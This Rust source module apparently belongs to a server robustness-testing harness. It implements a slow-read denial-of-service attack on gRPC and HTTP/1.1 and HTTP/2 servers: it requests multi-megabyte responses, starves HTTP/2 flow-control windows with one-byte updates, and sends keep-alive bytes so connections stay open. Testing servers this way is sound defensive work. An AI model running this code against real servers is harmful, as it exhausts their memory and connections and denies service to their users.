//! Responses of megabytes that are requested and not read, over each protocol.

use std::error::Error;
use std::io::{self, Write};
use std::thread;
use std::time::{Duration, Instant};

use thalweg::tls::rustls::StreamOwned;
use thalweg_engine::http2::frame::{PREFACE, Setting};

use super::frames::Frames;
use super::outcome::{CloseInfo, Outcome};
use super::tls::{Siege, TLS13};

/// `response_size` of `grpc.testing.SimpleRequest`: 4 MiB less 64.
pub(crate) const SIZE_FIELD: [u8; 5] = [0x10, 0xc0, 0xff, 0xff, 0x01];
const JSON: &str = r#"{"responseSize":4194240}"#;
/// Interval of writes, since a client that sends nothing does not notice its end.
const SIGN_PERIOD: Duration = Duration::from_secs(1);
/// Interval of window increments by one byte per stream.
const TRICKLE_PERIOD: Duration = Duration::from_secs(10);

/// Settings of the requests.
#[derive(Clone, Copy, Debug)]
pub(crate) struct Hoard {
    pub(crate) protocol: Protocol,
    /// Calls on each connection.
    pub(crate) calls: u32,
    /// Whether requests are compressed. Tasks decode them, so that all handlers start before the first has responded.
    pub(crate) is_compressed: bool,
    pub(crate) over_tls: bool,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Protocol {
    Grpc,
    /// JSON over HTTP/2.
    Json,
    /// JSON over HTTP/1.1.
    Http1,
}

impl Hoard {
    /// Holds `siege.connections` connections with calls until the time is over, or the server has ended all of them.
    pub(crate) fn run(self, siege: &Siege<'_>) -> Outcome {
        let mut outcome = Outcome::new();
        let asked = self.asked();
        let mut open = Vec::new();
        for _ in 0..siege.connections {
            // A server that refuses further connections has defended itself too.
            let Ok(mut io) = self.connect(siege) else { break };
            if io.write_all(&asked).and_then(|()| io.flush()).is_ok() {
                outcome.sent_bytes += asked.len() as u64;
                open.push(io);
            }
        }
        println!("attacking");
        outcome.connections = open.len();
        let mut trickled_at = Instant::now();
        while Instant::now() < siege.until && !open.is_empty() {
            thread::sleep(SIGN_PERIOD.min(siege.until.saturating_duration_since(Instant::now())));
            let trickles = trickled_at.elapsed() >= TRICKLE_PERIOD;
            if trickles {
                trickled_at = Instant::now();
            }
            let sign = self.sign(trickles);
            open.retain_mut(|io| match io.write_all(&sign).and_then(|()| io.flush()) {
                Ok(()) => {
                    outcome.sent_bytes += sign.len() as u64;
                    true
                }
                Err(error) => {
                    outcome
                        .ends
                        .push(CloseInfo { at: Instant::now(), how: format!("writing failed: {error}") });
                    false
                }
            });
        }
        outcome.lasted = outcome.began.elapsed();
        outcome
    }

    fn connect(self, siege: &Siege<'_>) -> Result<Box<dyn Write>, Box<dyn Error>> {
        if !self.over_tls {
            return Ok(Box::new(siege.connect()?));
        }
        let protocol: &[u8] = if self.protocol == Protocol::Http1 { b"http/1.1" } else { b"h2" };
        let config = siege.config_for(&TLS13, protocol)?;
        let (stream, connection) = siege.shake(&config)?;
        Ok(Box::new(StreamOwned::new(connection, stream)))
    }

    /// Returns the requests of a connection.
    fn asked(self) -> Vec<u8> {
        let body = |plain: &[u8]| if self.is_compressed { gzip(plain) } else { plain.to_vec() };
        if self.protocol == Protocol::Http1 {
            let body = body(JSON.as_bytes());
            let encoding = if self.is_compressed { "content-encoding: gzip\r\n" } else { "" };
            let head = format!(
                "POST /grpc.testing.BenchmarkService/UnaryCall HTTP/1.1\r\nhost: attacked\r\n\
                 content-type: application/json\r\n{encoding}content-length: {}\r\n\r\n",
                body.len()
            );
            return [head.as_bytes(), &body].concat().repeat(self.calls as usize);
        }
        let mut frames = Frames::new();
        frames.raw(PREFACE);
        frames.settings(&[Setting::InitialWindowSize(0)]);
        frames.settings_ack();
        for _ in 0..self.calls {
            if self.protocol == Protocol::Json {
                frames.json("UnaryCall", self.is_compressed, &body(JSON.as_bytes()));
            } else if self.is_compressed {
                frames.unary(&[("grpc-encoding", "gzip")], true, &gzip(&SIZE_FIELD));
            } else {
                frames.unary(&[], false, &SIZE_FIELD);
            }
        }
        frames.out
    }

    /// Returns a sign of life, and with `trickles` one byte more of each window.
    fn sign(self, trickles: bool) -> Vec<u8> {
        if self.protocol == Protocol::Http1 {
            // An empty line before a request is ignored (RFC 9112 §2.2).
            return b"\r\n".to_vec();
        }
        let mut frames = Frames::new();
        frames.window_update(0, 1);
        if trickles {
            (0..self.calls).for_each(|call| frames.window_update(2 * call + 1, 1));
        }
        frames.out
    }
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    let written: io::Result<()> = encoder.write_all(bytes);
    written.and_then(|()| encoder.finish()).expect("writing to a Vec does not fail")
}
